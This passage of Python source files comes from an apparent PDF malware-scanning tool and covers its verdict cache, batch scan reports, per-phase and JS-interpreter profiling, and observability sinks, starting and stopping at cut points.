The disk format is versioned; a version or settings-fingerprint
mismatch silently discards the file rather than serving stale verdicts
from a different detector configuration.

:class:`CacheBackend` is the protocol this class incidentally defined
and the cluster made explicit: anything with ``get``/``put``/``stats``/
``flush``/``close`` and a settings ``fingerprint`` can stand in for the
LRU — ``repro.cluster.cache`` ships a write-through on-disk backend and
a socket-backed shared cache server behind the same five methods, so
:class:`~repro.batch.scanner.BatchScanner` and the scan service never
know which topology they are running in.
"""

from __future__ import annotations

import hashlib
import json
import os
import tempfile
import threading
from collections import OrderedDict
from pathlib import Path
from typing import Any, Dict, Optional, Protocol, Union, runtime_checkable

from repro.batch.report import VerdictSummary

#: Bump when the on-disk payload shape changes.
CACHE_FORMAT_VERSION = 1


def content_digest(data: bytes) -> str:
    """The cache key for a document: hex SHA-256 of its raw bytes."""
    return hashlib.sha256(data).hexdigest()


@runtime_checkable
class CacheBackend(Protocol):
    """What scanners and shards require of a verdict cache.

    Semantics every implementation must honour (the parametric
    conformance suite in ``tests/cluster/test_cache_backends.py`` runs
    these against all backends):

    * ``get`` returns the stored :class:`VerdictSummary` or None and
      accounts a hit/miss in ``stats``;
    * ``put`` never stores errored summaries (failures are retried, not
      memoised) and is safe under concurrent writers;
    * entries are only served to callers with the same settings
      ``fingerprint`` — a different detector configuration sees a miss,
      never a stale verdict;
    * ``flush`` persists what can be persisted (no-op for pure-memory
      backends), ``close`` flushes and releases resources;
    * a broken backing store (missing file, dead cache server) degrades
      to misses — a cache must never be able to fail a scan.
    """

    fingerprint: str

    def get(self, digest: str) -> Optional[VerdictSummary]: ...

    def put(self, digest: str, summary: VerdictSummary) -> None: ...

    @property
    def stats(self) -> Dict[str, Any]: ...

    def flush(self) -> None: ...

    def close(self) -> None: ...


class VerdictCache:
    """Bounded LRU of ``sha256 -> VerdictSummary`` with JSON persistence.

    Thread-safe: the batch orchestrator reads/writes it from the main
    thread, but nothing stops callers sharing one cache across
    scanners.  Only *successful* verdicts are stored — timeouts and
    worker errors must be retried next run, and ``errored`` parses are
    cheap enough to redo.
    """

    def __init__(
        self,
        max_entries: int = 4096,
        path: Optional[Union[str, Path]] = None,
        fingerprint: str = "",
    ) -> None:
        if max_entries < 1:
            raise ValueError("max_entries must be >= 1")
        self.max_entries = max_entries
        self.path = Path(path) if path is not None else None
        #: Distinguishes caches built under different pipeline settings.
        self.fingerprint = fingerprint
        self._entries: "OrderedDict[str, VerdictSummary]" = OrderedDict()
        self._lock = threading.Lock()
        self.hits = 0
        self.misses = 0
        self.stores = 0
        if self.path is not None:
            self.load()

    def __len__(self) -> int:
        return len(self._entries)

    def __contains__(self, digest: str) -> bool:
        with self._lock:
            return digest in self._entries

    # -- core --------------------------------------------------------------

    def get(self, digest: str) -> Optional[VerdictSummary]:
        """LRU lookup; counts a hit or a miss."""
        with self._lock:
            entry = self._entries.get(digest)
            if entry is None:
                self.misses += 1
                return None
            self._entries.move_to_end(digest)
            self.hits += 1
            return entry

    def peek(self, digest: str) -> Optional[VerdictSummary]:
        """Lookup without touching LRU order or hit/miss counters."""
        with self._lock:
            return self._entries.get(digest)

    def put(self, digest: str, summary: VerdictSummary) -> None:
        if summary.errored:
            return  # never cache failures
        with self._lock:
            self._entries[digest] = summary
            self._entries.move_to_end(digest)
            self.stores += 1
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()

    @property
    def stats(self) -> Dict[str, Any]:
        return {
            "entries": len(self._entries),
            "hits": self.hits,
            "misses": self.misses,
            "stores": self.stores,
        }

    def flush(self) -> None:
        """Persist to ``self.path`` when configured (protocol surface)."""
        if self.path is not None:
            self.save()

    def close(self) -> None:
        """Flush and release; the in-memory LRU has nothing else to free."""
        self.flush()

    # -- persistence -------------------------------------------------------

    def load(self) -> int:
        """Merge entries from ``self.path``; returns how many loaded.

        Corrupt, missing, wrong-version or wrong-fingerprint files are
        treated as an empty cache — a cache must never be able to stop
        a scan run.
        """
        if self.path is None or not self.path.exists():
            return 0
        try:
            payload = json.loads(self.path.read_text(encoding="utf-8"))
        except (OSError, ValueError):
            return 0
        if not isinstance(payload, dict):
            return 0
        if payload.get("version") != CACHE_FORMAT_VERSION:
            return 0
        if payload.get("fingerprint", "") != self.fingerprint:
            return 0
        entries = payload.get("entries")
        if not isinstance(entries, dict):
            return 0
        loaded = 0
        with self._lock:
            for digest, record in entries.items():
                try:
                    self._entries[digest] = VerdictSummary.from_dict(record)
                except (KeyError, TypeError, ValueError):
                    continue
                loaded += 1
            while len(self._entries) > self.max_entries:
                self._entries.popitem(last=False)
        return loaded

    def save(self) -> Optional[Path]:
        """Atomically write the cache to ``self.path`` (tmp + rename)."""
        if self.path is None:
            return None
        with self._lock:
            payload = {
                "version": CACHE_FORMAT_VERSION,
                "fingerprint": self.fingerprint,
                "entries": {
                    digest: summary.to_dict()
                    for digest, summary in self._entries.items()
                },
            }
        self.path.parent.mkdir(parents=True, exist_ok=True)
        fd, tmp_name = tempfile.mkstemp(
            prefix=self.path.name + ".", dir=str(self.path.parent)
        )
        try:
            with os.fdopen(fd, "w", encoding="utf-8") as handle:
                json.dump(payload, handle, sort_keys=True)
            os.replace(tmp_name, self.path)
        except BaseException:
            try:
                os.unlink(tmp_name)
            except OSError:
                pass
            raise
        return self.path
