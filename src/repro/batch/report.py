"""Batch results: per-item records and the aggregated report.

A :class:`BatchItemResult` is what the scanner hands back for every
input document — including documents that were answered from the
verdict cache, that timed out, or whose worker raised.  The
:class:`BatchReport` aggregates them into the numbers an operator
actually watches on a gateway: verdict counts, cache hit rate, scan
latency percentiles and the error list.  Everything serialises to JSON
(``repro batch --json OUT``).
"""

from __future__ import annotations

from dataclasses import dataclass, field
from typing import Any, Dict, List, Optional, Sequence, Tuple

from repro.obs.metrics import DEFAULT_BUCKETS, Histogram

#: Item statuses.  ``ok`` means a verdict was produced (possibly
#: "reader crashed" — that *is* a verdict in this system); ``errored``
#: means the worker raised; ``timeout`` means the per-document deadline
#: expired with no result after all retries.
STATUS_OK = "ok"
STATUS_ERRORED = "errored"
STATUS_TIMEOUT = "timeout"


@dataclass(frozen=True)
class VerdictSummary:
    """The cacheable, picklable core of an :class:`~repro.core.pipeline.OpenReport`.

    Workers (possibly in another process) return this instead of the
    full report: it carries everything the batch layer aggregates and
    nothing that drags simulator state across the pickle boundary.
    """

    malicious: bool
    malscore: float
    features: Tuple[str, ...] = ()
    crashed: bool = False
    inert: bool = False
    errored: bool = False
    error: Optional[str] = None
    #: Verdict synthesised by the benign-triage fast path (no reader
    #: session was opened for this document).
    triaged: bool = False
    #: Which resource budget aborted the scan (None unless the scan was
    #: budget-errored, e.g. ``"stream-bytes"`` for a decompression bomb).
    limit_kind: Optional[str] = None
    #: Phase attribution from a profiled scan as sorted ``(phase,
    #: seconds)`` pairs (a tuple keeps the summary hashable/picklable);
    #: None when the pipeline ran without ``profile=True``.
    phases: Optional[Tuple[Tuple[str, float], ...]] = None

    @classmethod
    def from_report(cls, report: Any) -> "VerdictSummary":
        """Summarise any OpenReport-shaped object (stubs included)."""
        verdict = report.verdict
        profile = getattr(report, "profile", None)
        phases: Optional[Tuple[Tuple[str, float], ...]] = None
        if profile is not None:
            phases = tuple(sorted(profile.phase_seconds().items()))
        return cls(
            malicious=bool(verdict.malicious),
            malscore=float(verdict.malscore),
            features=tuple(verdict.features.fired_names()),
            crashed=bool(report.crashed),
            inert=bool(getattr(report, "did_nothing", False)),
            errored=bool(getattr(report, "errored", False)),
            error=getattr(report, "error", None),
            triaged=bool(getattr(report, "triaged", False)),
            limit_kind=getattr(report, "limit_kind", None),
            phases=phases,
        )

    def phase_seconds(self) -> Optional[Dict[str, float]]:
        """Phase attribution as a dict, or None when not profiled."""
        return dict(self.phases) if self.phases is not None else None

    def to_dict(self) -> Dict[str, Any]:
        return {
            "malicious": self.malicious,
            "malscore": self.malscore,
            "features": list(self.features),
            "crashed": self.crashed,
            "inert": self.inert,
            "errored": self.errored,
            "error": self.error,
            "triaged": self.triaged,
            "limit_kind": self.limit_kind,
            "phases": self.phase_seconds(),
        }

    @classmethod
    def from_dict(cls, payload: Dict[str, Any]) -> "VerdictSummary":
        raw_phases = payload.get("phases")
        return cls(
            malicious=bool(payload["malicious"]),
            malscore=float(payload["malscore"]),
            features=tuple(payload.get("features", ())),
            crashed=bool(payload.get("crashed", False)),
            inert=bool(payload.get("inert", False)),
            errored=bool(payload.get("errored", False)),
            error=payload.get("error"),
            triaged=bool(payload.get("triaged", False)),
            limit_kind=payload.get("limit_kind"),
            phases=(
                tuple(sorted((k, float(v)) for k, v in raw_phases.items()))
                if raw_phases
                else None
            ),
        )


@dataclass
class BatchItemResult:
    """Outcome for one input document."""

    name: str
    sha256: str
    status: str  # STATUS_OK | STATUS_ERRORED | STATUS_TIMEOUT
    verdict: Optional[VerdictSummary] = None
    #: True when the verdict came from the cache (on-disk, in-memory,
    #: or a duplicate of another document in the same run).
    cached: bool = False
    #: Number of scan attempts actually launched for this document
    #: (0 for cache hits, >1 when retries fired).
    attempts: int = 0
    #: Seconds the successful scan took inside the worker (0 for cache
    #: hits; for timeouts, the configured deadline).
    seconds: float = 0.0
    error: Optional[str] = None

    @property
    def ok(self) -> bool:
        return self.status == STATUS_OK

    @property
    def malicious(self) -> bool:
        return self.verdict is not None and self.verdict.malicious

    def to_dict(self) -> Dict[str, Any]:
        return {
            "name": self.name,
            "sha256": self.sha256,
            "status": self.status,
            "verdict": self.verdict.to_dict() if self.verdict else None,
            "cached": self.cached,
            "attempts": self.attempts,
            "seconds": self.seconds,
            "error": self.error,
        }


def percentile(values: Sequence[float], q: float) -> float:
    """Linear-interpolation percentile (q in [0, 100]); 0.0 when empty."""
    if not values:
        return 0.0
    ordered = sorted(values)
    if len(ordered) == 1:
        return ordered[0]
    rank = (q / 100.0) * (len(ordered) - 1)
    low = int(rank)
    high = min(low + 1, len(ordered) - 1)
    fraction = rank - low
    return ordered[low] + (ordered[high] - ordered[low]) * fraction


@dataclass
class BatchReport:
    """Aggregated outcome of one batch run."""

    items: List[BatchItemResult] = field(default_factory=list)
    wall_seconds: float = 0.0
    jobs: int = 1
    backend: str = "thread"
    timeout: Optional[float] = None
    retries: int = 0
    #: Scans actually executed by workers (deduplicated, post-cache).
    scans_executed: int = 0
    cache_hits: int = 0
    cache_misses: int = 0
    timeouts: int = 0
    retries_used: int = 0

    # -- aggregates --------------------------------------------------------

    @property
    def counts(self) -> Dict[str, int]:
        out = {"benign": 0, "malicious": 0, STATUS_ERRORED: 0, STATUS_TIMEOUT: 0}
        for item in self.items:
            if item.status != STATUS_OK:
                out[item.status] += 1
            elif item.verdict is not None and item.verdict.errored:
                out[STATUS_ERRORED] += 1
            elif item.malicious:
                out["malicious"] += 1
            else:
                out["benign"] += 1
        return out

    @property
    def errors(self) -> List[Dict[str, str]]:
        """Documents that failed: name + status + error text."""
        failures = []
        for item in self.items:
            if item.status != STATUS_OK:
                failures.append(
                    {"name": item.name, "status": item.status,
                     "error": item.error or ""}
                )
            elif item.verdict is not None and item.verdict.errored:
                failures.append(
                    {"name": item.name, "status": STATUS_ERRORED,
                     "error": item.verdict.error or ""}
                )
        return failures

    @property
    def limit_hits(self) -> Dict[str, int]:
        """Budget-aborted scans, grouped by the budget kind that fired."""
        out: Dict[str, int] = {}
        for item in self.items:
            if item.verdict is not None and item.verdict.limit_kind:
                kind = item.verdict.limit_kind
                out[kind] = out.get(kind, 0) + 1
        return out

    @property
    def triaged_count(self) -> int:
        """Documents answered by the benign-triage fast path."""
        return sum(
            1
            for item in self.items
            if item.verdict is not None and item.verdict.triaged
        )

    @property
    def cache_hit_rate(self) -> float:
        looked_up = self.cache_hits + self.cache_misses
        return self.cache_hits / looked_up if looked_up else 0.0

    def scan_latencies(self) -> List[float]:
        """Worker-side seconds for scans that actually ran."""
        return [
            item.seconds
            for item in self.items
            if item.status == STATUS_OK and not item.cached
        ]

    def _latency_histogram(self) -> Optional[Histogram]:
        latencies = self.scan_latencies()
        if not latencies:
            return None
        histogram = Histogram(DEFAULT_BUCKETS)
        for value in latencies:
            histogram.observe(value)
        return histogram

    @property
    def p50_seconds(self) -> float:
        histogram = self._latency_histogram()
        return histogram.quantile(0.5) if histogram is not None else 0.0

    @property
    def p95_seconds(self) -> float:
        histogram = self._latency_histogram()
        return histogram.quantile(0.95) if histogram is not None else 0.0

    def phase_totals(self) -> Dict[str, float]:
        """Summed per-phase seconds across every profiled item.

        Empty when no item carried a profile (pipelines run with
        ``profile=False`` by default).
        """
        totals: Dict[str, float] = {}
        for item in self.items:
            if item.verdict is None or item.verdict.phases is None:
                continue
            for phase, seconds in item.verdict.phases:
                totals[phase] = totals.get(phase, 0.0) + seconds
        return totals

    def verdict_multiset(self) -> List[Tuple[str, bool, float]]:
        """Sorted ``(name, malicious, malscore)`` triples — the
        order-independent equivalence the property tests assert against
        sequential scanning."""
        return sorted(
            (item.name, item.verdict.malicious, item.verdict.malscore)
            for item in self.items
            if item.verdict is not None
        )

    # -- serialisation -----------------------------------------------------

    def to_dict(self) -> Dict[str, Any]:
        return {
            "total": len(self.items),
            "counts": self.counts,
            "wall_seconds": self.wall_seconds,
            "jobs": self.jobs,
            "backend": self.backend,
            "timeout": self.timeout,
            "retries": self.retries,
            "scans_executed": self.scans_executed,
            "cache": {
                "hits": self.cache_hits,
                "misses": self.cache_misses,
                "hit_rate": self.cache_hit_rate,
            },
            "latency": {
                "p50_seconds": self.p50_seconds,
                "p95_seconds": self.p95_seconds,
            },
            "timeouts": self.timeouts,
            "retries_used": self.retries_used,
            "phase_totals": self.phase_totals(),
            "triaged": self.triaged_count,
            "limit_hits": self.limit_hits,
            "errors": self.errors,
            "items": [item.to_dict() for item in self.items],
        }

    def summary(self) -> str:
        """Human-readable one-screen summary (``repro batch`` output)."""
        counts = self.counts
        lines = [
            f"scanned {len(self.items)} document(s) in {self.wall_seconds:.2f}s "
            f"({self.jobs} {self.backend} worker(s), "
            f"{self.scans_executed} scan(s) executed)",
            f"  benign    : {counts['benign']}",
            f"  malicious : {counts['malicious']}",
            f"  errored   : {counts[STATUS_ERRORED]}",
            f"  timed out : {counts[STATUS_TIMEOUT]}",
            f"  cache     : {self.cache_hits} hit(s) / {self.cache_misses} "
            f"miss(es) ({self.cache_hit_rate:.0%} hit rate)",
            f"  latency   : p50 {self.p50_seconds * 1000:.1f}ms, "
            f"p95 {self.p95_seconds * 1000:.1f}ms",
        ]
        if self.triaged_count:
            lines.insert(
                5, f"  triaged   : {self.triaged_count} (emulation skipped)"
            )
        phase_totals = self.phase_totals()
        if phase_totals:
            busiest = sorted(phase_totals.items(), key=lambda kv: -kv[1])[:4]
            detail = ", ".join(
                f"{phase} {seconds * 1000:.1f}ms" for phase, seconds in busiest
            )
            lines.append(f"  phases    : {detail}")
        limit_hits = self.limit_hits
        if limit_hits:
            detail = ", ".join(
                f"{kind}: {count}" for kind, count in sorted(limit_hits.items())
            )
            lines.append(f"  limits    : {detail}")
        for failure in self.errors:
            lines.append(
                f"  ! {failure['name']} [{failure['status']}] {failure['error']}"
            )
        return "\n".join(lines)
