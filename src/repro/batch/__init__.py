"""Parallel batch scanning (``repro.batch``).

The gateway-facing layer: fan a corpus of PDFs out over a worker pool,
answer duplicates from a content-hash verdict cache, isolate hanging or
crashing documents behind per-document timeouts/retries, and aggregate
everything into a serialisable :class:`BatchReport`.

Quickstart::

    from repro.batch import BatchScanner

    scanner = BatchScanner(jobs=4, backend="process", timeout=30.0)
    report = scanner.scan_items([(name, data), ...])
    print(report.summary())

CLI: ``repro batch DIR --jobs 4 --timeout 30 --cache verdicts.json``.
See ``docs/BATCH.md`` for architecture, cache format and timeout
semantics.
"""

from repro.batch.cache import CACHE_FORMAT_VERSION, VerdictCache, content_digest
from repro.batch.report import (
    STATUS_ERRORED,
    STATUS_OK,
    STATUS_TIMEOUT,
    BatchItemResult,
    BatchReport,
    VerdictSummary,
    percentile,
)
from repro.batch.scanner import (
    BatchItem,
    BatchScanner,
    ScanHandle,
    ScanOutcome,
    scan_corpus,
)

__all__ = [
    "BatchItem",
    "BatchItemResult",
    "BatchReport",
    "BatchScanner",
    "CACHE_FORMAT_VERSION",
    "STATUS_ERRORED",
    "STATUS_OK",
    "STATUS_TIMEOUT",
    "ScanHandle",
    "ScanOutcome",
    "VerdictCache",
    "VerdictSummary",
    "content_digest",
    "percentile",
    "scan_corpus",
]
