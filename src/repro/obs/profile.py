"""Scan-phase profiling and JS-interpreter hotspot attribution.

Three pieces, all deterministic and dependency-free:

* :class:`ScanProfile` — per-scan phase attribution.  A scan holds a
  *phase stack*; every transition accrues the elapsed wall time to the
  phase on top, so the per-phase durations **sum exactly to the scan's
  total** by construction (time not claimed by any instrumented site
  lands in the ``"other"`` bucket).  Phases are the paper's Table X/XI
  cost centres: ``parse``, ``decompress``, ``xref-resolve``, ``jsast``,
  ``instrument``, ``js-exec``, ``monitor``, ``verdict``.
* :class:`JSProfile` — low-overhead hotspot accounting inside the
  ``repro.js`` eval loop: self-time and hit counts per AST node type,
  calls/self-time per function call-site, and flamegraph-ready
  collapsed-stack lines (``repro profile FILE --collapsed out.txt``).
  The interpreter checks one attribute per dispatch when profiling is
  off — the disabled path allocates nothing.
* :class:`SlowScanBuffer` — a ring buffer retaining full detail (span
  trees, phase breakdowns) only for scans slower than a fixed threshold
  or the rolling p99 (``GET /debug/slow`` on the service).

The active :class:`ScanProfile` travels via a :mod:`contextvars` scope
(mirroring :mod:`repro.limits`) so deep components — the PDF parser,
the stream decoder, the runtime monitor — can mark phases without
threading a ``profile`` parameter through every signature:

    with profile_mod.activate(ScanProfile().start()) as prof:
        ...  # instrumented call sites use profile_mod.phase("parse")
    prof.finish()
"""

from __future__ import annotations

import contextlib
import contextvars
import time
from collections import deque
from typing import Any, Callable, Dict, Iterator, List, Optional, Tuple

#: Canonical phase names, in pipeline order.  ``other`` absorbs
#: everything outside an instrumented site (orchestration, span
#: bookkeeping, report assembly) so the breakdown always adds up.
PHASES: Tuple[str, ...] = (
    "parse",
    "decompress",
    "xref-resolve",
    "recovery-scan",
    "jsast",
    "absint",
    "instrument",
    "js-exec",
    "monitor",
    "verdict",
    "other",
)


class JSProfile:
    """Hotspot accounting for the tree-walking JS interpreter.

    Self-time bookkeeping uses a child-time accumulator stack: each
    dispatch pushes ``0.0``, children add their *inclusive* time to the
    top, and on exit ``self = inclusive - children``.  Call-sites get
    the same treatment on a separate stack keyed by callee name, which
    doubles as the collapsed-stack (flamegraph) source.
    """

    __slots__ = (
        "clock",
        "call_seconds",
        "call_self_seconds",
        "call_counts",
        "stack_self_seconds",
        "node_stats",
        "node_frames",
        "_call_frames",
        "_call_stack",
    )

    def __init__(self, clock: Callable[[], float] = time.perf_counter) -> None:
        self.clock = clock
        #: kind -> [self_seconds, hits].  One mutable record per node
        #: type keeps the hot dispatch path to a single dict lookup.
        self.node_stats: Dict[str, List[Any]] = {}
        #: Inclusive seconds per callee name (recursion double-counts).
        self.call_seconds: Dict[str, float] = {}
        self.call_self_seconds: Dict[str, float] = {}
        self.call_counts: Dict[str, int] = {}
        #: Self seconds per call stack (``("(root)", "a", "b")``).
        self.stack_self_seconds: Dict[Tuple[str, ...], float] = {}
        self.node_frames: List[float] = [0.0]
        self._call_frames: List[float] = [0.0]
        self._call_stack: List[str] = ["(root)"]

    # -- node dispatch (the eval-loop hot path when enabled) -------------

    def dispatch(
        self,
        kind: str,
        method: Callable[..., Any],
        node: Any,
        env: Any,
        this: Any,
    ) -> Any:
        """Run one ``_exec_*``/``_eval_*`` method under the profiler."""
        frames = self.node_frames
        frames.append(0.0)
        clock = self.clock
        start = clock()
        try:
            return method(node, env, this)
        finally:
            elapsed = clock() - start
            child = frames.pop()
            frames[-1] += elapsed
            self_time = elapsed - child
            stat = self.node_stats.get(kind)
            if stat is None:
                stat = self.node_stats[kind] = [0.0, 0]
            if self_time > 0.0:
                stat[0] += self_time
            stat[1] += 1

    # -- call-sites -------------------------------------------------------

    def enter_call(self, name: str) -> float:
        self._call_stack.append(name)
        self._call_frames.append(0.0)
        return self.clock()

    def exit_call(self, name: str, start: float) -> None:
        elapsed = self.clock() - start
        child = self._call_frames.pop()
        self._call_frames[-1] += elapsed
        self_time = elapsed - child
        if self_time < 0.0:
            self_time = 0.0
        stack = tuple(self._call_stack)
        self._call_stack.pop()
        self.call_counts[name] = self.call_counts.get(name, 0) + 1
        self.call_seconds[name] = self.call_seconds.get(name, 0.0) + elapsed
        self.call_self_seconds[name] = (
            self.call_self_seconds.get(name, 0.0) + self_time
        )
        self.stack_self_seconds[stack] = (
            self.stack_self_seconds.get(stack, 0.0) + self_time
        )

    # -- reading ----------------------------------------------------------

    @property
    def node_self_seconds(self) -> Dict[str, float]:
        """Accumulated self seconds per AST node type."""
        return {kind: stat[0] for kind, stat in self.node_stats.items()}

    @property
    def node_hits(self) -> Dict[str, int]:
        """Dispatch counts per AST node type."""
        return {kind: stat[1] for kind, stat in self.node_stats.items()}

    @property
    def total_self_seconds(self) -> float:
        return sum(stat[0] for stat in self.node_stats.values())

    def hotspots(self, top: int = 10) -> List[Dict[str, Any]]:
        """Node types ranked by accumulated self-time."""
        ranked = sorted(
            self.node_stats.items(), key=lambda kv: -kv[1][0]
        )[: max(0, top)]
        return [
            {
                "node": kind,
                "self_seconds": stat[0],
                "hits": stat[1],
            }
            for kind, stat in ranked
        ]

    def call_sites(self, top: int = 10) -> List[Dict[str, Any]]:
        """Function call-sites ranked by inclusive time."""
        ranked = sorted(self.call_seconds.items(), key=lambda kv: -kv[1])
        return [
            {
                "function": name,
                "seconds": seconds,
                "self_seconds": self.call_self_seconds.get(name, 0.0),
                "calls": self.call_counts.get(name, 0),
            }
            for name, seconds in ranked[: max(0, top)]
        ]

    def collapsed_lines(self) -> List[str]:
        """Flamegraph-folded lines: ``(root);a;b <microseconds>``.

        Feed straight into ``flamegraph.pl`` / speedscope ("collapsed
        stacks" import).  Values are integer microseconds of self-time.
        """
        lines = []
        for stack, seconds in sorted(self.stack_self_seconds.items()):
            micros = int(round(seconds * 1e6))
            lines.append(";".join(stack) + f" {micros}")
        return lines

    def merge(self, other: "JSProfile") -> None:
        """Fold another profile's aggregates into this one."""
        for key, stat in other.node_stats.items():
            mine = self.node_stats.get(key)
            if mine is None:
                self.node_stats[key] = [stat[0], stat[1]]
            else:
                mine[0] += stat[0]
                mine[1] += stat[1]
        for key, value in other.call_seconds.items():
            self.call_seconds[key] = self.call_seconds.get(key, 0.0) + value
        for key, value in other.call_self_seconds.items():
            self.call_self_seconds[key] = (
                self.call_self_seconds.get(key, 0.0) + value
            )
        for key, count in other.call_counts.items():
            self.call_counts[key] = self.call_counts.get(key, 0) + count
        for stack, value in other.stack_self_seconds.items():
            self.stack_self_seconds[stack] = (
                self.stack_self_seconds.get(stack, 0.0) + value
            )

    def to_dict(self, top: int = 10) -> Dict[str, Any]:
        return {
            "total_self_seconds": self.total_self_seconds,
            "hotspots": self.hotspots(top),
            "call_sites": self.call_sites(top),
        }


class ScanProfile:
    """Deterministic per-scan phase attribution + counters.

    Not thread-safe — one scan runs on one thread (the contextvar scope
    keeps concurrent scans from seeing each other's profile).
    """

    def __init__(self, clock: Callable[[], float] = time.perf_counter) -> None:
        self.clock = clock
        self.phase_self_seconds: Dict[str, float] = {}
        self.counters: Dict[str, float] = {}
        self.js = JSProfile(clock)
        self.total_seconds = 0.0
        self.finished = False
        self._stack: List[str] = ["other"]
        self._last: Optional[float] = None

    # -- lifecycle ---------------------------------------------------------

    def start(self) -> "ScanProfile":
        self._last = self.clock()
        return self

    def finish(self) -> "ScanProfile":
        """Close the clock; afterwards phase sums equal the total."""
        if self._last is not None:
            self._accrue(self.clock())
        self.total_seconds = sum(self.phase_self_seconds.values())
        self.finished = True
        return self

    # -- phase stack -------------------------------------------------------

    def _accrue(self, now: float) -> None:
        top = self._stack[-1]
        assert self._last is not None
        self.phase_self_seconds[top] = (
            self.phase_self_seconds.get(top, 0.0) + (now - self._last)
        )
        self._last = now

    def push(self, name: str) -> None:
        if self._last is not None:
            self._accrue(self.clock())
        self._stack.append(name)

    def pop(self) -> None:
        if self._last is not None:
            self._accrue(self.clock())
        if len(self._stack) > 1:
            self._stack.pop()

    @contextlib.contextmanager
    def phase(self, name: str) -> Iterator["ScanProfile"]:
        self.push(name)
        try:
            yield self
        finally:
            self.pop()

    # -- counters ----------------------------------------------------------

    def count(self, name: str, amount: float = 1) -> None:
        self.counters[name] = self.counters.get(name, 0) + amount

    # -- reading -----------------------------------------------------------

    def phase_seconds(self) -> Dict[str, float]:
        """All canonical phases (zero-filled) plus anything extra."""
        out = {name: 0.0 for name in PHASES}
        out.update(self.phase_self_seconds)
        return out

    def to_dict(self, top: int = 10) -> Dict[str, Any]:
        return {
            "total_seconds": self.total_seconds,
            "phases": self.phase_seconds(),
            "counters": dict(self.counters),
            "js": self.js.to_dict(top),
        }


# -- ambient scope (mirrors repro.limits) -----------------------------------

_active: contextvars.ContextVar[Optional[ScanProfile]] = contextvars.ContextVar(
    "repro_scan_profile", default=None
)


def current() -> Optional[ScanProfile]:
    """The :class:`ScanProfile` active for this scan, or None."""
    return _active.get()


@contextlib.contextmanager
def activate(profile: ScanProfile) -> Iterator[ScanProfile]:
    """Make ``profile`` the ambient profile for the calling context."""
    token = _active.set(profile)
    try:
        yield profile
    finally:
        _active.reset(token)


@contextlib.contextmanager
def phase(name: str) -> Iterator[Optional[ScanProfile]]:
    """Attribute the enclosed block to ``name`` (no-op when inactive).

    This is the mark the instrumented call sites use — a contextvar
    lookup plus an is-None check when profiling is off.
    """
    profile = _active.get()
    if profile is None:
        yield None
        return
    profile.push(name)
    try:
        yield profile
    finally:
        profile.pop()


def count(name: str, amount: float = 1) -> None:
    """Bump a counter on the active profile (no-op when inactive)."""
    profile = _active.get()
    if profile is not None:
        profile.count(name, amount)


# -- slow-scan exemplars ------------------------------------------------------


class SlowScanBuffer:
    """Ring buffer of slow-scan exemplars (full detail, bounded memory).

    A scan is *slow* when its latency is at or above the fixed
    ``threshold_seconds``, or — when no threshold is configured — at or
    above the rolling p99 of the last ``window`` latencies (armed only
    once ``min_samples`` scans have been observed, so a cold service
    does not flag its first request).  Thread-safe.
    """

    def __init__(
        self,
        capacity: int = 32,
        threshold_seconds: Optional[float] = None,
        window: int = 512,
        min_samples: int = 30,
    ) -> None:
        import threading

        if capacity < 1:
            raise ValueError("capacity must be >= 1")
        self.capacity = capacity
        self.threshold_seconds = threshold_seconds
        self.min_samples = max(1, min_samples)
        self._lock = threading.Lock()
        self._entries: deque = deque(maxlen=capacity)
        self._window: deque = deque(maxlen=max(window, self.min_samples))
        self._observed = 0
        self._retained = 0

    def _threshold_locked(self) -> Optional[float]:
        if self.threshold_seconds is not None:
            return self.threshold_seconds
        if len(self._window) < self.min_samples:
            return None
        ordered = sorted(self._window)
        rank = 0.99 * (len(ordered) - 1)
        low = int(rank)
        high = min(low + 1, len(ordered) - 1)
        fraction = rank - low
        return ordered[low] + (ordered[high] - ordered[low]) * fraction

    def observe(
        self,
        name: str,
        seconds: float,
        digest: Optional[str] = None,
        detail: Optional[Dict[str, Any]] = None,
    ) -> bool:
        """Record one scan latency; returns True when it was retained."""
        with self._lock:
            threshold = self._threshold_locked()
            self._window.append(seconds)
            self._observed += 1
            if threshold is None or seconds < threshold:
                return False
            self._retained += 1
            entry: Dict[str, Any] = {
                "name": name,
                "seconds": seconds,
                "threshold_seconds": threshold,
                "sequence": self._observed,
            }
            if digest:
                entry["sha256"] = digest
            if detail:
                entry.update(detail)
            self._entries.append(entry)
            return True

    def snapshot(self) -> Dict[str, Any]:
        """Current exemplars (newest first) plus buffer state."""
        with self._lock:
            return {
                "threshold_seconds": self.threshold_seconds,
                "effective_threshold_seconds": self._threshold_locked(),
                "capacity": self.capacity,
                "observed": self._observed,
                "retained": self._retained,
                "entries": list(reversed(self._entries)),
            }

    def clear(self) -> None:
        with self._lock:
            self._entries.clear()
            self._window.clear()
            self._observed = 0
            self._retained = 0
