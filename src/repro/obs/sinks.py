"""Pluggable output sinks for the observability layer.

A sink receives three record kinds, each a plain JSON-serialisable
dict carrying a ``"type"`` key:

``span``
    A finished :class:`~repro.obs.trace.Span` (children are emitted
    before their parents, since a span is emitted when it *closes*).
``event``
    A point-in-time occurrence (a hooked syscall, a feature firing, a
    context enter/leave) attached to the currently open span.
``metric``
    One aggregated metric (counter / gauge / histogram), emitted by
    :meth:`repro.obs.metrics.Metrics.flush`.

The process-wide default is :data:`NULL_SINK`: its ``enabled`` flag is
False, which the hot paths (one event per hooked syscall) check before
building any record at all — so with no sink configured the layer costs
a single attribute lookup per event site.
"""

from __future__ import annotations

import json
import sys
import threading
from typing import Any, Dict, List, Optional, TextIO


class Sink:
    """Base class for span/event/metric consumers."""

    #: Hot paths skip record construction entirely when this is False.
    enabled: bool = True

    def emit_span(self, record: Dict[str, Any]) -> None:
        raise NotImplementedError

    def emit_event(self, record: Dict[str, Any]) -> None:
        raise NotImplementedError

    def emit_metric(self, record: Dict[str, Any]) -> None:
        raise NotImplementedError

    def close(self) -> None:
        """Flush and release any resources (idempotent)."""


class NullSink(Sink):
    """Discards everything; the near-zero-overhead default."""

    enabled = False

    def emit_span(self, record: Dict[str, Any]) -> None:
        pass

    def emit_event(self, record: Dict[str, Any]) -> None:
        pass

    def emit_metric(self, record: Dict[str, Any]) -> None:
        pass


#: Shared default instance (sinks are stateless unless they buffer).
NULL_SINK = NullSink()


class MemorySink(Sink):
    """Keeps every record in memory — for tests and benchmarks."""

    def __init__(self) -> None:
        self.spans: List[Dict[str, Any]] = []
        self.events: List[Dict[str, Any]] = []
        self.metrics: List[Dict[str, Any]] = []

